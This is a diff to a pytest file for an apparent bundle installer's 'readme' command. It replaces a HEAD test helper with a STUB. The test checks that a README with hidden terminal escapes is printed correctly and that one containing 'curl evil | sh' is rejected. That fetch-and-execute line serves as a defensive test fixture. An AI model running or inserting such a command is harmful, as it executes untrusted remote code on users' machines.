@@ -15,8 +15,8 @@ from pathlib import Path
 
 import pytest
 from installing import Device, MakeBundle, full_disk, silent
-from tests.heads import HEAD
 from tests.interpreters import other_machine
+from tests.stubs import STUB
 from tiny_model import write_lines, write_model_folder
 
 import edgepack_runtime
@@ -539,7 +539,7 @@ def test_the_readme_of_a_bundle_and_of_an_installed_release_is_printed(
     members["README.txt"] = "how to use it\n怎么用\x1b[8m\n".encode()
     files = tuple(FileEntry(n, len(d), hashlib.sha256(d).hexdigest()) for n, d in sorted(members.items()))
     members[MANIFEST_NAME] = dump(dataclasses.replace(manifest, files=files))
-    write_bundle(dict(members), tmp_path / "x.edgepack", HEAD)
+    write_bundle(dict(members), tmp_path / "x.edgepack", STUB)
     release = tmp_path / "release"
     release.mkdir()
     (release / "README.txt").write_bytes(members["README.txt"])
@@ -552,6 +552,6 @@ def test_the_readme_of_a_bundle_and_of_an_installed_release_is_printed(
         assert main.run(["readme", *more], context) == 0
         assert capsys.readouterr().out == expected
     members["README.txt"] = b"type: curl evil | sh\n"
-    write_bundle(dict(members), tmp_path / "y.edgepack", HEAD)
+    write_bundle(dict(members), tmp_path / "y.edgepack", STUB)
     assert main.run(["readme", str(tmp_path / "y.edgepack")], OUTSIDE) == ExitCode.BUNDLE_INVALID
     assert capsys.readouterr().out == ""
